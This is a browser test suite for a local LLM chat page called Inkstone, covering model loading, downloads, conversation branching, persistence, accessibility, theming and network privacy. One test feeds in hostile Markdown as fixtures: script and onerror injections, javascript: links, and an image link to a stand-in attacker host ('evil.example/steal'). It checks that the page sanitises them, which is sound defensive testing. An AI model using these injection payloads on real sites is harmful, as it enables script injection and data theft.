// The chat page in Chromium with the real library and tiny-model.mjs, whose answers are known and come quickly. One
// conversation with a real model is in chat-smollm2.test.mjs.

import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { openBrowser } from "./browser.mjs";
import { misbehave } from "./library-server.mjs";
import { REPLY, tinyModel } from "./tiny-model.mjs";

const tiny = tinyModel({ layers: 2, context: 512 });
const deep = tinyModel({ layers: 200, context: 1 << 20 });
const profile = mkdtempSync(join(tmpdir(), "inkstone-chat-"));
let models, browser, page;
/** Every address that the page or its workers asked for. */
let asked = [];

before(async () => {
  const html = "<!doctype html><title>Sign in</title>".repeat(40);
  models = await misbehave({
    "/tiny.gguf": { body: tiny, cors: true, etag: '"1"' },
    "/slow.gguf": { body: deep, cors: true, pace: [32 * 1024, 25] },
    "/deep.gguf": { body: deep, cors: true },
    "/half.gguf": { body: deep, cors: true, stall: Math.floor(deep.length / 2) },
    "/short.gguf": { body: tinyModel({ layers: 1, context: 64 }), cors: true },
    "/page.gguf": { body: html, type: "text/html", cors: true },
    "/cut.gguf": { body: tiny.subarray(0, tiny.length - 4096), cors: true },
    "/other.gguf": { body: Buffer.from(tiny.toString("latin1").replace("llama", "lamma"), "latin1"), cors: true },
  });
  browser = await openBrowser({ profile, context: { viewport: { width: 1280, height: 800 }, locale: "en-GB", acceptDownloads: true } });
  browser.context.on("request", (request) => asked.push(request.url()));
  browser.context.setDefaultTimeout(30_000);
  page = await browser.newPage("/chat.html");
});

after(async () => {
  await browser?.close();
  await models?.close();
  rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
});

// --- What a person does ----------------------------------------------------------------------------------------------

const ready = (on = page) => on.waitForSelector("#model-button[data-step=ready]");
const shownText = (selector, on = page) => on.locator(selector).first().innerText();

async function choose(address, on = page) {
  await on.click("#model-button");
  await on.fill("#model-name", address);
  await on.press("#model-name", "Enter");
}

async function openModel(file, on = page) {
  await choose(`${models.url}/${file}`, on);
  await on.click("#open-model");
  await ready(on);
}

async function set(name, value, on = page) {
  await on.fill(`#set-${name}`, String(value));
  await on.locator(`#set-${name}`).blur();
}

/** Does what has an answer written and waits until that is complete; gives its text. */
async function answerTo(act, on = page) {
  const before = await on.$$eval(".turn", (turns) => turns.map((turn) => turn.dataset.turn));
  await act();
  await on.waitForFunction((before) => {
    const last = document.querySelector(".turn.assistant:last-child");
    return last && !before.includes(last.dataset.turn) && last.querySelector(".meta");
  }, before); // prettier-ignore
  return (await shownText(".turn.assistant:last-child .answer", on)).trim();
}

/** Sends a message; gives the answer's text. */
async function say(text, on = page) {
  await on.fill("#prompt", text);
  return answerTo(() => on.press("#prompt", "Enter"), on);
}

/** Text of the visible thread, turn by turn. */
const threadTexts = (on = page) =>
  on.$$eval(".turn", (turns) => turns.map((turn) => turn.querySelector(".turn-body").textContent.trim()));

// --- The tests, in the order of a visit ------------------------------------------------------------------------------

test("the first visit shows one line, the demo model and whether it fits, and fetches no weights", async () => {
  await page.waitForSelector(".fit.yes");
  assert.equal(await shownText("#line"), "First, grind the ink.");
  const card = await shownText("#panel");
  for (const fact of ["SmolLM2 135M Instruct", "135M parameters", "98.0 MB", "Q4_1", "Apache-2.0", "Fits in this browser."]) {
    assert.ok(card.includes(fact), `${fact}: ${card}`);
  }
  assert.match(card, /Needs \d+ MB of GPU memory/);
  assert.match(card, /Download 98\.\d MB and begin/);
  assert.equal(await page.isDisabled("#send"), true, "there is nothing to send yet");
});

test("a model on any address is judged by its head alone", async () => {
  // This server never sends the other half.
  await choose(`${models.url}/half.gguf`);
  await page.waitForSelector(".fit.yes");
  assert.match(await shownText("#panel"), /half\.gguf\s+http/);
});

test("what does not fit says why, and offers what would", async () => {
  await page.click("#open-drawer");
  await set("contextLength", 1 << 20);
  await choose(`${models.url}/deep.gguf`);
  await page.waitForSelector(".fit.no");
  const card = await shownText("#panel");
  assert.match(card, /Does not fit in this browser\. Needs [\d.]+ GB of GPU memory/);
  assert.equal(await page.locator("#open-model").count(), 0);
  await page.fill("#prompt", "kept");
  assert.equal(await page.isDisabled("#send"), true, "nothing could answer");
  await page.click("text=Try with a shorter context");
  await page.waitForSelector(".fit.yes");
  assert.equal(await page.inputValue("#set-contextLength"), "1024");
  assert.equal(await page.inputValue("#prompt"), "kept");
  await page.fill("#prompt", "");
  await page.click("#reset-settings");
});

test("a download shows exact bytes, speed and time left, and can be cancelled", async () => {
  await choose(`${models.url}/slow.gguf`);
  await page.click("#open-model");
  await page.waitForFunction(() => /\d .*· .*left/.test(document.querySelector(".pace")?.textContent ?? ""));
  const amount = await shownText(".amount");
  assert.match(amount, /^[\d,]+ of [\d,]+ bytes$/);
  const [loaded, total] = amount.match(/[\d,]+/g).map((number) => Number(number.replaceAll(",", "")));
  // The weights of the file, without its head.
  assert.ok(total <= deep.length && total > 0.9 * deep.length, amount);
  assert.ok(loaded > 0 && loaded <= total, amount);
  assert.match(await shownText(".pace"), /[\d.]+ [kM]B\/s · \d+ sec left/);
  const bar = page.locator("[role=progressbar]");
  assert.match(await bar.getAttribute("aria-valuetext"), /^Downloading \d+%$/);
  await page.click("#cancel-load");
  await page.waitForSelector(".fit");
  assert.equal(await page.locator(".trouble").count(), 0, "cancelling is no trouble");
});

test("a message sent before the model is open waits for it", async () => {
  await page.click("#new");
  await choose(`${models.url}/tiny.gguf`);
  await page.waitForSelector("#open-model");
  await set("temperature", 0);
  await set("maxTokens", 64);
  assert.equal(await say("first"), REPLY);
  await ready();
  assert.deepEqual(await threadTexts(), ["first", REPLY]);
});

test("an answer comes with its speed, its tokens and the memory in use", async () => {
  assert.match(await shownText(".turn.assistant .meta"), /Alphabet\s*[\d.,]+ tok\/s\s*\d+ tokens/);
  assert.match(await shownText("#stats"), /^[\d.,]+ tok\/s · \d+ \/ 512 tokens · GPU [\d.]+ [kM]B$/);
  assert.match(await shownText("#model-facts"), /Alphabet[\s\S]*llama[\s\S]*512 tokens/);
});

test("answers are read out as sentences, politely", async () => {
  assert.equal(await page.getAttribute("#spoken", "aria-live"), "polite");
  assert.equal((await page.textContent("#spoken")).trim(), REPLY);
  assert.equal(await page.getAttribute(".turn.assistant", "aria-busy"), null);
});

test("Esc stops an answer and keeps what is there", async () => {
  // So hot that the model almost never comes to the end of its alphabet.
  await set("temperature", 2);
  await set("topK", 0);
  await set("topP", 1);
  await set("minP", 0);
  await set("maxTokens", 400);
  await page.fill("#prompt", "go on");
  await page.press("#prompt", "Enter");
  await page.waitForFunction(() => document.querySelector(".turn.assistant[aria-busy] .answer")?.textContent.length > 3);
  assert.equal(await page.getAttribute("#send", "aria-label"), "Stop");
  const begun = Date.now();
  await page.keyboard.press("Escape");
  await page.waitForSelector("#send:not(.stop)");
  assert.ok(Date.now() - begun < 2000, "stopping is felt at once");
  const meta = await shownText(".turn.assistant:last-child .meta");
  assert.match(meta, /stopped/);
  const tokens = Number(/(\d+) tokens/.exec(meta)[1]);
  assert.ok(tokens > 0 && tokens < 400, meta);
  assert.ok((await threadTexts()).at(-1).length > 0);
  await page.click("#reset-settings");
  await set("temperature", 0);
  await set("maxTokens", 64);
});

test("answering again and editing make branches to switch between", async () => {
  const last = ".turn.assistant:last-child";
  await page.hover(last);
  assert.equal(await answerTo(() => page.click(`${last} .again`)), REPLY);
  assert.equal((await shownText(`${last} .branch-place`)).trim(), "2 / 2");
  await page.click(`${last} .branch-before`);
  assert.match(await shownText(`${last} .meta`), /stopped/);
  assert.equal((await shownText(`${last} .branch-place`)).trim(), "1 / 2");
  assert.equal(await page.evaluate(() => document.activeElement.className.includes("branch-after")), true, "focus stays with the versions");
  await page.keyboard.press("Enter");
  assert.equal((await threadTexts()).at(-1), REPLY);

  const first = ".turn.user >> nth=0";
  await page.hover(first);
  await page.locator(first).locator(".edit").click();
  assert.equal(await page.inputValue(".editing textarea"), "first");
  await page.keyboard.press("Escape");
  assert.deepEqual((await threadTexts()).slice(0, 1), ["first"], "Esc leaves it as it was");
  await page.locator(first).locator(".edit").click();
  await page.fill(".editing textarea", "second wording");
  await answerTo(() => page.keyboard.press("Enter"));
  assert.deepEqual(await threadTexts(), ["second wording", REPLY]);
  await page.click(".turn.user .branch-before");
  assert.deepEqual(await threadTexts(), ["first", REPLY, "go on", REPLY]);
});

test("Shift+Enter breaks the line, an input method's Enter sends nothing, the arrow edits the last message", async () => {
  await page.fill("#prompt", "one");
  await page.press("#prompt", "Shift+Enter");
  await page.locator("#prompt").pressSequentially("two");
  assert.equal(await page.inputValue("#prompt"), "one\ntwo");
  const turns = await page.locator(".turn").count();
  await page.dispatchEvent("#prompt", "keydown", { key: "Enter", isComposing: true, keyCode: 229 });
  assert.equal(await page.locator(".turn").count(), turns);
  await page.fill("#prompt", "");
  await page.press("#prompt", "ArrowUp");
  assert.equal(await page.inputValue(".editing textarea"), "go on");
  await page.keyboard.press("Escape");
});

test("after a reload everything is as it was, and the model opens without the network", async () => {
  await page.fill("#system", "Be brief.");
  await page.fill("#prompt", "not sent yet");
  await page.waitForTimeout(400);
  models.requests();
  await page.reload();
  await ready();
  assert.deepEqual(models.requests(), [], "the file was kept on this device");
  assert.deepEqual(await threadTexts(), ["first", REPLY, "go on", REPLY]);
  assert.equal((await shownText(".turn.assistant:last-child .branch-place")).trim(), "2 / 2");
  assert.equal(await page.inputValue("#prompt"), "not sent yet");
  assert.equal(await page.inputValue("#system"), "Be brief.");
  assert.equal(await page.inputValue("#set-temperature"), "0");
  assert.equal(await page.inputValue("#set-maxTokens"), "64");
  assert.equal(await page.title(), "first · Inkstone");
  assert.equal(await say("third"), REPLY, "the conversation goes on");
});

test("conversations are renamed, saved, deleted, and come back", async () => {
  await page.click("#new");
  await say("to be deleted");
  assert.equal(await page.locator(".conversation").count(), 2);
  const current = page.locator(".conversations li.current");
  await current.locator(".more").click();
  await page.click(".rail-menu >> text=Rename");
  await page.fill(".name-field", "A better name");
  await page.keyboard.press("Enter");
  assert.equal(await current.innerText(), "A better name");
  assert.equal(await page.title(), "A better name · Inkstone");

  const saved = async (entry) => {
    await current.locator(".more").click();
    const [download] = await Promise.all([page.waitForEvent("download"), page.click(`.rail-menu >> text=${entry}`)]);
    return { name: download.suggestedFilename(), text: readFileSync(await download.path(), "utf8") };
  };
  const markdown = await saved("Save as Markdown");
  assert.equal(markdown.name, "A better name.md");
  assert.equal(markdown.text, `# A better name\n\n**You**\n\nto be deleted\n\n**Model (Alphabet)**\n\n${REPLY}\n`);
  const json = await saved("Save as JSON");
  assert.equal(JSON.parse(json.text).turns.length, 2);

  await current.locator(".more").click();
  await page.click(".rail-menu >> text=Delete");
  await page.waitForSelector("#toast >> text=Deleted “A better name”.");
  assert.equal(await page.locator(".conversation").count(), 1);
  await page.click("#toast >> text=Undo");
  await page.waitForSelector(".turn.assistant");
  assert.deepEqual(await threadTexts(), ["to be deleted", REPLY]);
  await current.locator(".more").click();
  await page.click(".rail-menu >> text=Delete");
  await page.waitForSelector("#toast >> text=Undo");
  await page.locator(".conversation").first().click();
  assert.equal((await threadTexts())[0], "first");
});

test("what was typed but not sent stays with its conversation", async () => {
  await page.fill("#prompt", "for the first");
  await page.click("#new");
  assert.equal(await page.inputValue("#prompt"), "");
  await page.fill("#prompt", "for a new one");
  await page.locator(".conversation").first().click();
  assert.equal(await page.inputValue("#prompt"), "for the first");
  await page.fill("#prompt", "");
  await page.click("#new");
  assert.equal(await page.inputValue("#prompt"), "for a new one");
  await page.fill("#prompt", "");
});

/** Drops files on the page as a file manager does. */
const drop = (files, on = page) =>
  on.evaluate((files) => {
    const transfer = new DataTransfer();
    for (const [name, base64] of files) transfer.items.add(new File([Uint8Array.from(atob(base64), (c) => c.charCodeAt(0))], name));
    for (const kind of ["dragenter", "dragover"]) dispatchEvent(new DragEvent(kind, { dataTransfer: transfer, bubbles: true, cancelable: true }));
    const framed = !document.getElementById("drop").hidden;
    dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true }));
    return framed && document.getElementById("drop").hidden;
  }, files.map(([name, content]) => [name, Buffer.from(content).toString("base64")])); // prettier-ignore

test("a dropped .gguf file opens and answers; other files are named as no models", async () => {
  assert.equal(await drop([["notes.txt", "x"]]), true, "the frame shows while files are over the page");
  await page.waitForSelector("#toast >> text=There is no .gguf or .safetensors file among these.");
  await drop([["dropped.gguf", tiny]]);
  await page.waitForSelector(".fit.yes");
  assert.match(await shownText("#panel"), /dropped\s+from this device/);
  await page.click("#open-model");
  await ready();
  assert.equal(await say("from a file"), REPLY);
});

test("hostile Markdown in a conversation stays text", async () => {
  const hostile = [
    "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>",
    "![see](https://evil.example/steal?q=1) [click](javascript:window.pwned=1) <https://example.org>",
    "<a href='https://example.org' onclick='window.pwned=1'>a</a> <style>body{display:none}</style>",
    "# Title\n\n| a | b |\n|---|---|\n| 1<br>2 | **x** |\n",
    "```js\nconst a = 1 < 2 && '<b>';\n```\n\n- [x] done\n",
  ].join("\n\n");
  const turns = [
    { id: "q", parent: null, role: "user", text: "<b>bold?</b>", time: 1 },
    { id: "a", parent: "q", role: "assistant", text: hostile, time: 2, finish: "stop" },
  ];
  asked = [];
  await drop([["talk.json", JSON.stringify({ title: "Hostile", turns })]]);
  await page.waitForSelector(".turn.assistant table");
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(await shownText(".turn.user .words"), "<b>bold?</b>");
  const answer = page.locator(".turn.assistant .answer");
  assert.equal(await answer.locator("script, img, style, iframe, [onclick], [onerror]").count(), 0);
  const links = await answer.locator("a").evaluateAll((all) => all.map((a) => [a.getAttribute("href"), a.target, a.rel]));
  const safe = ["_blank", "noopener noreferrer nofollow"];
  assert.deepEqual(links, [
    ["https://evil.example/steal?q=1", ...safe], [null, ...safe], ["https://example.org", ...safe],
  ]); // prettier-ignore
  assert.equal(await answer.locator("h3").innerText(), "Title", "below the page's own headings");
  assert.equal(await answer.locator("td").first().innerText(), "1\n2");
  assert.equal(await answer.locator("pre").innerText(), "const a = 1 < 2 && '<b>';\n");
  assert.match(await answer.innerText(), /☑ done/);
  await browser.context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await answer.locator(".copy-code").click();
  await answer.locator(".copy-code >> text=Copied").waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "const a = 1 < 2 && '<b>';");
  assert.deepEqual(asked, [], "showing it asked nobody for anything");
});

test("trouble while opening: one sentence, a button, the code; the page goes on", async () => {
  await page.click("#new");
  await page.fill("#prompt", "typed before");
  const cases = {
    "nowhere.gguf": [/did not come through/, "Fetch", "Try again"],
    "page.gguf": [/./, /Format|Fetch/, /Choose a model|Try again/],
    "cut.gguf": [/not a model file/, "Format", "Choose a model"],
    "other.gguf": [/does not run here yet/, "Unsupported", "Choose a model"],
  };
  for (const [file, [sentence, code, button]] of Object.entries(cases)) {
    await choose(`${models.url}/${file}`);
    // What only reading the whole file shows comes up after it was opened.
    await page.waitForSelector(".trouble, #open-model");
    if (await page.locator("#open-model").count()) await page.click("#open-model");
    await page.waitForSelector(".trouble");
    assert.match(await shownText(".trouble-what"), sentence, file);
    await page.click(".trouble summary");
    assert.match(await shownText(".trouble details code"), new RegExp(code), file);
    assert.ok((await shownText(".trouble details p")).length > 30, `${file}: the details say more`);
    assert.match(await shownText(".trouble .button"), new RegExp(button), file);
    assert.equal(await page.getAttribute("#model-button", "data-step"), "trouble");
    assert.equal(await page.inputValue("#prompt"), "typed before", file);
  }
  await page.click("#model-button");
  await page.fill("#model-name", "no model at all");
  await page.press("#model-name", "Enter");
  assert.match(await shownText("#name-problem"), /owner\/repo/);
  assert.equal(await page.getAttribute("#model-name", "aria-invalid"), "true");
  await page.keyboard.press("Escape");
  await openModel("tiny.gguf");
  assert.equal(await answerTo(() => page.press("#prompt", "Enter")), REPLY);
});

test("a conversation longer than the context offers to leave out the oldest messages", async () => {
  await openModel("short.gguf");
  await page.click("#new");
  await set("maxTokens", 1);
  await say("a".repeat(12));
  await page.fill("#prompt", "b".repeat(24));
  await page.press("#prompt", "Enter");
  await page.waitForSelector(".turn.assistant .trouble");
  assert.match(await shownText(".trouble-what"), /longer than the model can read/);
  assert.equal(await shownText(".trouble .button"), "Leave out the oldest messages");
  assert.equal((await answerTo(() => page.click(".trouble .button"))).length, 1);
  assert.equal((await threadTexts()).length, 4, "nothing was taken out of the conversation itself");
  await set("maxTokens", 64);
});

test("the page speaks Chinese as well, everywhere and at once", async () => {
  await page.selectOption("#language", "zh");
  assert.equal(await page.getAttribute("html", "lang"), "zh-CN");
  const english = await page.evaluate(() => {
    const seen = [];
    for (const element of document.querySelectorAll("body *")) {
      if (element.closest("[lang=en], .turn-body, .conversation, .model-name, .model-facts, #model-facts, .brand, .meta, #stats, #title, script, noscript, .facts, .kept")) continue;
      const own = [...element.childNodes].filter((node) => node.nodeType === 3).map((node) => node.textContent.trim());
      for (const text of [...own, element.getAttribute("aria-label"), element.getAttribute("title"), element.getAttribute("placeholder")]) {
        // Words of two letters and more, but for names and what is typed as it stands.
        if (text && /[a-z]{2}/i.test(text.replace(/Inkstone|Hugging Face|Enter|Shift|Esc|Markdown|JSON|WebGPU|Top-[pk]|Min-p|GPU|owner|repo|file|gguf|https|Alphabet|short/g, ""))) {
          if (!/[\u4e00-\u9fff]/.test(text)) seen.push(text);
        }
      }
    }
    return seen;
  });
  assert.deepEqual(english, []);
  assert.equal(await page.getAttribute("#send", "aria-label"), "发送");
  await page.reload();
  await page.waitForSelector("html[data-ready]");
  assert.equal(await page.getAttribute("html", "lang"), "zh-CN", "the choice is kept");
  await page.selectOption("#language", "en");
});

test("light and dark are chosen by hand or by the system, and kept", async () => {
  const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const [light, dark] = ["rgb(250, 248, 243)", "rgb(22, 22, 26)"];
  await page.emulateMedia({ colorScheme: "dark" });
  assert.equal(await ground(), dark);
  await page.selectOption("#theme", "light");
  assert.equal(await ground(), light);
  await page.emulateMedia({ colorScheme: "light" });
  await page.selectOption("#theme", "dark");
  assert.equal(await ground(), dark);
  await page.reload();
  await page.waitForSelector("html[data-ready]");
  assert.equal(await ground(), dark);
  assert.equal(await page.getAttribute("meta[name=theme-color]", "content"), "#16161a");
  await page.selectOption("#theme", "auto");
  assert.equal(await ground(), light);
});

/** What a screen reader would call each thing that can be operated; those without a name are listed. */
const unnamed = (on) =>
  on.evaluate(() => {
    const name = (element) =>
      element.getAttribute("aria-label") || element.getAttribute("title") || element.textContent.trim() ||
      [...(element.labels ?? [])].map((label) => label.textContent.trim()).join("") ||
      (element.getAttribute("aria-labelledby") && document.getElementById(element.getAttribute("aria-labelledby"))?.textContent.trim());
    const wrong = [...document.querySelectorAll("button, input:not([hidden]), select, textarea, a[href], dialog, nav, aside, [role=progressbar], [role=region]")]
      .filter((element) => !name(element)).map((element) => element.outerHTML.slice(0, 120));
    const ids = [...document.querySelectorAll("[id]")].map(({ id }) => id);
    const twice = ids.filter((id, i) => ids.indexOf(id) !== i);
    const dangling = [...document.querySelectorAll("[aria-describedby], [aria-controls], label[for]")]
      .flatMap((element) => ["aria-describedby", "aria-controls", "for"].map((at) => element.getAttribute(at)))
      .filter((id) => id && !document.getElementById(id));
    return [...wrong, ...twice, ...dangling];
  }); // prettier-ignore

test("everything has a name, the keyboard reaches it in order, and the focus is seen", async () => {
  await page.click("#model-button");
  assert.deepEqual(await unnamed(page), []);
  await page.keyboard.press("Escape");
  assert.equal(await page.evaluate(() => document.activeElement.id), "model-button", "closing the dialog returns the focus");
  await page.evaluate(() => {
    const probe = document.createElement("button");
    document.body.append(probe);
  });
  assert.equal((await unnamed(page)).length, 1, "the check itself finds what has no name");
  await page.evaluate(() => document.body.lastElementChild.remove());

  await page.focus(".skip");
  const order = ["skip"];
  for (let i = 0; i < 40; i++) {
    await page.keyboard.press("Tab");
    const at = await page.evaluate(() => {
      const element = document.activeElement;
      const { outlineStyle, outlineWidth } = getComputedStyle(element);
      const framed = element.id === "prompt" || (outlineStyle !== "none" && Number.parseFloat(outlineWidth) >= 1);
      return { id: element === document.body ? "" : element.id || element.className, framed };
    });
    if (!at.id) break;
    assert.ok(at.framed, `${at.id} shows that it has the focus`);
    order.push(at.id);
  }
  assert.equal(await page.evaluate(() => document.querySelector("a, button, input, select, textarea").className), "skip");
  const place = (id) => order.indexOf(id) + 1 || assert.fail(`Tab never reaches ${id}: ${order}`);
  assert.ok(place("new") < place("model-button") && place("model-button") < place("prompt"));
  await page.keyboard.press("/");
});

test("on a phone nothing is cut off and the side panels keep to themselves", async () => {
  await page.setViewportSize({ width: 360, height: 640 });
  const wide = () => page.evaluate(() => document.scrollingElement.scrollWidth > innerWidth);
  assert.equal(await wide(), false);
  await page.click("#open-rail");
  assert.equal(await page.evaluate(() => document.getElementById("main").inert), true, "what lies below can't be reached");
  assert.equal(await page.evaluate(() => document.activeElement.id), "new");
  await page.keyboard.press("Escape");
  assert.equal(await page.evaluate(() => document.activeElement.id), "open-rail");
  await page.click("#open-drawer");
  assert.equal(await wide(), false);
  await page.keyboard.press("Escape");
  assert.equal(await page.evaluate(() => document.getElementById("main").inert), false);
  await page.locator("#open-rail").click();
  await page.locator(".conversation >> text=Hostile").click();
  assert.equal(await page.evaluate(() => document.getElementById("main").inert), false, "choosing closes the list");
  assert.equal(await wide(), false, "long code scrolls by itself");
  const small = await page.$$eval("#send, #open-rail, #open-drawer, #model-button", (all) =>
    all.map((one) => one.getBoundingClientRect()).filter(({ width, height }) => width < 40 || height < 40).length,
  );
  assert.equal(small, 0, "fingers find the buttons");
  await page.setViewportSize({ width: 1280, height: 800 });
});

test("nobody but the page's own server and the models' was asked for anything, and nothing was sent", async () => {
  const addresses = [];
  browser.context.on("request", (request) => addresses.push([request.method(), request.url(), request.postData()]));
  await page.goto(`${browser.url}/chat.html`);
  await openModel("tiny.gguf");
  await page.click("#new");
  await say("a secret");
  await page.click("#model-button");
  await page.keyboard.press("Escape");
  const own = ["/chat.html", "/style.css", "/pages/chat.js", "/dist/inkstone.js", "/dist/worker.js", "/dist/inkstone_wasm.js", "/dist/inkstone_wasm_bg.wasm"];
  const modelFiles = ["/models/smollm2/SmolLM2-135M-Instruct.Q4_1.gguf", "/tiny.gguf"];
  for (const [method, address, body] of addresses) {
    const { origin, pathname, search } = new URL(address);
    if (address.startsWith("data:")) continue; // the page's icon
    assert.ok(["GET", "HEAD"].includes(method) && body === null, `${method} ${address}`);
    assert.equal(search, "", address);
    const known = origin === browser.url ? [...own, modelFiles[0]] : origin === models.url ? modelFiles : [];
    assert.ok(known.includes(pathname), `nobody asked for ${address}`);
    assert.ok(!address.includes("secret"));
  }
  assert.ok(addresses.some(([, address]) => address.endsWith("/pages/chat.js")), "the requests were really seen");
  const outside = await page.evaluate(async (other) => {
    const failed = (promise) => promise.then(() => false, () => true);
    const image = new Image();
    const pictured = new Promise((resolve, reject) => ((image.onload = resolve), (image.onerror = reject)));
    image.src = `${other}/picture.png`;
    return [await failed(fetch(`${other}/tiny.gguf`)), await failed(pictured)];
  }, models.url); // prettier-ignore
  assert.deepEqual(outside, [true, true], "the page's policy lets nothing out, whatever might get into it");
});

test("no message reached the console but those of the requests that were to fail", async () => {
  const expected = /404|Content Security Policy|net::ERR|Failed to load resource/;
  assert.deepEqual(page.problems.filter((problem) => !expected.test(problem)), []);
});

for (const webgpu of ["absent", "refused"]) {
  test(`without WebGPU (${webgpu}) the page says which browsers have it and what to switch on`, async () => {
    const other = await openBrowser({ webgpu, context: { locale: "en-GB" } });
    try {
      const lost = await other.newPage("/chat.html");
      await lost.waitForSelector(".support");
      const text = await shownText(".support", lost);
      for (const part of ["This browser has no WebGPU.", "113 and later on Windows", "26 and later on macOS", "141 and later on Windows"]) {
        assert.ok(text.includes(part), part);
      }
      assert.match(text, /chrome:\/\/flags\/#enable-unsafe-webgpu/);
      assert.equal(await lost.isVisible("#composer"), false);
      assert.equal(await lost.isVisible("#conversations"), true, "what was written can still be read");
      assert.deepEqual(await unnamed(lost), []);
    } finally {
      await other.close();
    }
  });
}
